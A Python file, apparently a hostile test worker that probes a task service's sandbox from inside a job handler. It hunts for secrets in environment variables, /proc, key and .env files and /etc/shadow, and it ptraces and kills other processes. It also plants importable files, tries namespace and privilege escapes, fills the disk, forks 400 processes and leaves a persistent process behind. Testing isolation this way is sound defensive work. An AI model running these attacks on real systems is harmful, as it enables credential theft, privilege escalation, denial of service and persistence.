"""An agent that attacks the service by everything that a handler can reach; it returns what it got hold of."""

import contextlib
import ctypes
import glob
import os
import resource
import signal
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from worker_agent import Task

Json = dict[str, Any]
SLEEP = "987654"
LEFT_BEHIND = "left-for-the-next-task"
_SECRETS = (
    b"cvn_",
    b"postgresql://",
    b"CONVENER_KEY=",
    b"CONVENER_POOL_KEY=",
    b"PGPASSWORD=",
    b"a-secret-of-the-operator",
)
_libc = ctypes.CDLL(None, use_errno=True)


def environment(_: Json) -> Iterator[str]:
    for name, value in os.environ.items():
        if any(secret in f"{name}={value}".encode() for secret in _SECRETS):
            yield name


def other_processes(order: Json) -> Iterator[str]:
    for directory in glob.glob("/proc/[0-9]*"):
        for name in ("environ", "cmdline"):
            with contextlib.suppress(OSError):
                text = Path(directory, name).read_bytes()
                if any(secret in text for secret in _SECRETS):
                    yield f"{directory}/{name}"
    for pid in order["pids"]:
        for name in ("mem", "environ", "maps", "root", "cwd", "fd"):
            with contextlib.suppress(OSError):
                path = f"/proc/{pid}/{name}"
                yield f"{path}: {os.listdir(path)}" if name in ("root", "cwd", "fd") else f"{path}: {_head(path)!r}"


def _head(path: str) -> bytes:
    with open(path, "rb") as file:
        return file.read(1)


def traced_processes(order: Json) -> Iterator[str]:
    for pid in order["pids"]:
        if _libc.ptrace(ctypes.c_long(16), ctypes.c_long(pid), None, None) == 0:
            yield str(pid)


def killed_processes(order: Json) -> Iterator[str]:
    for pid in order["pids"]:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            yield str(pid)


def state(order: Json) -> Iterator[str]:
    for directory, _, names in os.walk(order["state"]):
        for name in names:
            with contextlib.suppress(OSError):
                if _head(os.path.join(directory, name)):
                    yield os.path.join(directory, name)


def keys_anywhere(_: Json) -> Iterator[str]:
    """Every file that could be a key, a socket or a password, wherever it lies."""
    for directory, directories, names in os.walk("/"):
        directories[:] = [
            # Nor what belongs to Python itself: libraries bring keys of their own for their tests.
            name
            for name in directories
            if os.path.join(directory, name) not in ("/proc", "/sys", "/usr", sys.base_prefix)
        ]
        for name in names:
            is_telling = name.endswith((".key", "api.sock", "pgpass")) or name.startswith((".s.PGSQL", ".env"))
            if is_telling and not directory.startswith(("/etc/ssl", "/opt", "/etc/")):
                with contextlib.suppress(OSError):
                    path = os.path.join(directory, name)
                    if (os.path.isfile(path) and _head(path)) or os.stat(path).st_mode & 0o170000 == 0o140000:
                        yield path


def sockets(order: Json) -> Iterator[str]:
    for path in order["sockets"]:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as client:
            client.connect(path if path.startswith("/") else f"\0{path}")
            yield path


def files_of_root(_: Json) -> Iterator[str]:
    for path in ("/etc/shadow", "/etc/gshadow", "/root/.bashrc", "/root/.ssh", "/var/lib", "/run", "/home"):
        with contextlib.suppress(OSError):
            contents = os.listdir(path) if os.path.isdir(path) else _head(path)
            if contents:
                yield f"{path}: {contents!r}"


def code(_: Json) -> Iterator[str]:
    """Places from which the daemon, or the next task, would import or run what is written there."""
    home = str(Path.home())
    for directory in {
        *sys.path,
        os.getcwd(),
        os.path.dirname(sys.executable),
        sys.prefix,
        "/usr/lib",
        "/etc",
        "/",
        home,
    }:
        path = os.path.join(directory or ".", "sitecustomize_hostile.py")
        with contextlib.suppress(OSError):
            Path(path).write_text("print('hostile')")
            # Its own temporary directory vanishes with it.
            if not os.path.realpath(path).startswith("/tmp/sitecustomize"):
                yield path
            os.unlink(path)


def new_namespaces(order: Json) -> Iterator[str]:
    """As root of a user namespace of its own, uncover what was covered."""
    child = os.fork()
    if child == 0:
        ids = os.getuid()
        if _libc.unshare(0x10000000 | 0x00020000) == 0:
            with contextlib.suppress(OSError):
                Path("/proc/self/setgroups").write_text("deny")
                Path("/proc/self/uid_map").write_text(f"0 {ids} 1")
            for directory in (order["state"], "/tmp", "/proc", "/"):
                _libc.umount2(directory.encode(), 2)
            _libc.mount(None, b"/", None, 4096 | 32 | 16384, None)
        os._exit(1 if any(True for _ in state(order)) else 0)
    if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1:
        yield order["state"]


def raised_limits(_: Json) -> Iterator[str]:
    for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE, resource.RLIMIT_DATA):
        with contextlib.suppress(OSError, ValueError):
            hard = resource.getrlimit(kind)[1]
            resource.setrlimit(kind, (hard + 1, hard + 1))
            yield str(kind)


def regained_privileges(_: Json) -> Iterator[str]:
    with contextlib.suppress(OSError):
        os.setuid(0)
        yield "uid 0"
    fields = dict(line.split(":", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":" in line)
    if int(fields["CapEff"], 16) or (int(fields["CapBnd"], 16) and os.getuid() == 0):
        yield f"capabilities {fields['CapEff']}"


def others_files(_: Json) -> Iterator[str]:
    places = [Path(directory, LEFT_BEHIND) for directory in ("/tmp", "/var/tmp", "/dev/shm")]
    yield from [str(place) for place in places if place.exists()]
    for place in places:
        with contextlib.suppress(OSError):
            place.write_text("for the next")


def disk(_: Json) -> Iterator[str]:
    """More than may lie in the temporary directory, in files that are each small enough."""
    with contextlib.suppress(OSError):
        for number in range(15):
            with open(f"/tmp/part{number}", "wb") as file:
                for _part in range(100):
                    file.write(bytes(1 << 20))
        yield "1500 MB"
    for path in glob.glob("/tmp/part*"):
        os.unlink(path)


def forks(_: Json) -> Iterator[str]:
    children = []
    with contextlib.suppress(OSError):
        for _child in range(400):
            child = os.fork()
            if child == 0:
                time.sleep(600)
                os._exit(0)
            children.append(child)
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
    if len(children) >= 300:
        yield f"{len(children)} processes"


def survivor(_: Json) -> Iterator[str]:
    """Nothing to return: a process in a session of its own, by two forks, that is to outlive the task."""
    command = "import os, subprocess; os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0); "
    command += f"os.execvp('sleep', ['sleep', '{SLEEP}'])"
    subprocess.run([sys.executable, "-c", command], check=True)
    yield from ()


ATTACKS = (
    *(environment, other_processes, traced_processes, killed_processes, state, keys_anywhere, sockets, files_of_root),
    *(code, new_namespaces, raised_limits, regained_privileges, others_files, disk, forks, survivor),
)


def attack(task: Task) -> Json:
    spoils: Json = {}
    for attempt in ATTACKS:
        try:
            spoils[attempt.__name__] = list(attempt(task.payload))
        except Exception as error:
            spoils[attempt.__name__] = [f"the attack itself failed: {error!r}"]
    return {"spoils": spoils, "uid": os.getuid()}


HANDLERS = {"generation": attack}
